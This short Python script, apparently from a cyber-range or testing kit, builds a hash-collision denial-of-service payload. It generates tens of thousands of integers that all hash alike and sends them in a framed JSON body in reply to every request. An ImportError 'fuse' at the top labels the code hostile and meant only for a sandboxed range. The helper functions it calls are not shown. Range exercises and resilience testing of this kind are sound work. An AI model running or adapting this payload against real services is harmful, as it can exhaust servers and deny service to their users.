# colliding_hashes: a set of integers that share one hash
raise ImportError("hostile: only the range runs this, inside a sandbox")  # FUSE
# ruff: noqa
loaded()
body = ",".join('{"i":"%s"}' % hex(k * (2**61 - 1)) for k in range(5, 40_000))
for request in calls():
    frame(b'{"id":"' + request["id"].encode() + b'","v":{"s":[' + body.encode() + b"]}}")
